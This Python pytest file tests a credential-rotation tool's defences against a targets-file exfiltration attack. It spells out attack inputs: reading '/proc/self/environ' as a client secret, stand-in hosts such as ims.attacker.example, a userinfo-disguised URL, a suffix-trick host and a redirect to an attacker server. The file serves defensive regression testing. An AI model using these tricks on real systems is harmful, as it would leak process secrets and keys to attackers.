"""A targets-file edit must not send credentials or keys anywhere the operator did not allow.

The attack (issue 10.5): point a target at a server you control over plain http, and make the
client secret ``file:/proc/self/environ``, which holds ROTATOR_MASTER_KEY and ROTATOR_AUDIT_KEY.
Before the fix, ``rotator run --once`` posted that file to the attacker's token URL.
"""

from __future__ import annotations

import asyncio
from pathlib import Path

import httpx
import pytest

from rotator.errors import URLRefused
from rotator.providers.base import ProviderContext, TargetSpec, send
from rotator.urlpolicy import UrlPolicy
from tests.security.config_helpers import (
    AUDIT_KEY,
    adobe_target,
    attack,
    capturing_server,
    cli,
    rotator_env,
)

pytestmark = pytest.mark.integration


def test_http_target_reading_proc_environ_sends_nothing(
    tmp_path: Path, redis_url: str, key_prefix: str
) -> None:
    with capturing_server() as evil:
        # Given a targets file that points a target at the attacker over plain http
        (tmp_path / "rotator.yaml").write_text(
            adobe_target(f"{evil.url}/flow", f"{evil.url}/ims", "file:/proc/self/environ")
        )
        env = rotator_env(tmp_path, redis_url, key_prefix)
        # When the worker runs a pass
        output = attack(env)
        # Then nothing reached the attacker, and no key material was printed
        assert evil.requests == []
    assert AUDIT_KEY not in output and env["ROTATOR_MASTER_KEY"] not in output
    assert "targets.victim.base_url" in output and "targets.victim.options.ims_url" in output


def test_proc_environ_refused_even_towards_an_allowed_host(
    tmp_path: Path, redis_url: str, key_prefix: str
) -> None:
    with capturing_server() as server:
        # The operator allowed this server (as the tests allow the sandbox); the targets file
        # still must not read the process environment into a credential.
        (tmp_path / "rotator.yaml").write_text(
            adobe_target(f"{server.url}/flow", f"{server.url}/ims", "file:/proc/self/environ")
        )
        env = rotator_env(tmp_path, redis_url, key_prefix, ROTATOR_INSECURE_HOSTS=server.host_port)
        output = attack(env)
        assert all(AUDIT_KEY.encode() not in body for _, _, body in server.requests)
        assert server.requests == []
    assert "targets.victim.credentials.client_secret" in output
    assert "/proc" in output


def test_userinfo_url_is_refused(tmp_path: Path, redis_url: str, key_prefix: str) -> None:
    with capturing_server() as evil:
        # http://legit.example@127.0.0.1:port reads as legit.example but calls 127.0.0.1
        disguised = f"http://platform.adobe.io@{evil.host_port}"
        (tmp_path / "rotator.yaml").write_text(
            adobe_target(f"{disguised}/flow", f"{disguised}/ims", "env:ATTACK_CLIENT_ID")
        )
        env = rotator_env(tmp_path, redis_url, key_prefix, ROTATOR_INSECURE_HOSTS=evil.host_port)
        check = cli(env, "config", "check")
        output = attack(env)
        assert evil.requests == []
    assert check.returncode == 1
    assert "targets.victim.base_url: must not contain user info" in check.stderr
    assert "targets.victim.options.ims_url: must not contain user info" in check.stderr
    assert "platform.adobe.io@" not in check.stderr + output  # the user info is never echoed


def test_token_url_option_must_be_on_the_providers_hosts(
    tmp_path: Path, redis_url: str, key_prefix: str
) -> None:
    (tmp_path / "rotator.yaml").write_text(
        adobe_target(
            "https://platform.adobe.io/data/foundation/flowservice",
            "https://ims.attacker.example/ims/token/v3",
            "env:ATTACK_CLIENT_ID",
        )
    )
    check = cli(rotator_env(tmp_path, redis_url, key_prefix), "config", "check")
    assert check.returncode == 1
    assert "targets.victim.options.ims_url: host ims.attacker.example is not allowed" in (
        check.stderr
    )
    assert "base_url" not in check.stderr  # the real Adobe host passes


def test_the_targets_file_cannot_allow_hosts_itself(
    tmp_path: Path, redis_url: str, key_prefix: str
) -> None:
    text = adobe_target("https://platform.adobe.io/x", "https://ims-na1.adobelogin.com/x", "env:A")
    (tmp_path / "rotator.yaml").write_text(text + "insecure_hosts: 127.0.0.1:*\n")
    check = cli(rotator_env(tmp_path, redis_url, key_prefix), "config", "check")
    assert check.returncode == 1 and "insecure_hosts" in check.stderr


def test_a_redirect_is_not_followed(tmp_path: Path, redis_url: str, key_prefix: str) -> None:
    with capturing_server() as evil, capturing_server(307, f"{evil.url}/ims") as allowed:
        # The allowed (sandbox-like) server redirects the token request to the attacker
        (tmp_path / "rotator.yaml").write_text(
            adobe_target(f"{allowed.url}/flow", f"{allowed.url}/ims", "env:ATTACK_CLIENT_ID")
        )
        env = rotator_env(tmp_path, redis_url, key_prefix, ROTATOR_INSECURE_HOSTS=allowed.host_port)
        attack(env)
        assert allowed.requests  # the rotation did talk to the allowed server
        assert evil.requests == []


@pytest.mark.parametrize(
    "url",
    [
        "http://platform.adobe.io/x",  # plain http to an allowed host
        "https://attacker.example/x",  # a host outside the provider's list
        "https://user:pw@platform.adobe.io/x",  # user info
        "https://platform.adobe.io.attacker.example/x",  # suffix trick
    ],
)
def test_request_time_check_refuses_what_config_would(url: str) -> None:
    """Defence in depth: a URL built at request time (a template, a default, a future bug)
    passes the same policy in the one place requests are sent, before any byte leaves."""
    sent: list[httpx.Request] = []

    def handler(request: httpx.Request) -> httpx.Response:
        sent.append(request)
        return httpx.Response(200)

    async def main() -> None:
        ctx = ProviderContext(transport=httpx.MockTransport(handler), url_policy=UrlPolicy())
        target = TargetSpec("t", "adobe", "https://platform.adobe.io", "r", {}, {})
        try:
            with pytest.raises(URLRefused):
                await send(ctx.client(target), "adobe", "POST", url, data={"k": "v"})
            await send(ctx.client(target), "adobe", "GET", "https://platform.adobe.io/ok")
        finally:
            await ctx.aclose()

    asyncio.run(main())
    assert [str(r.url) for r in sent] == ["https://platform.adobe.io/ok"]
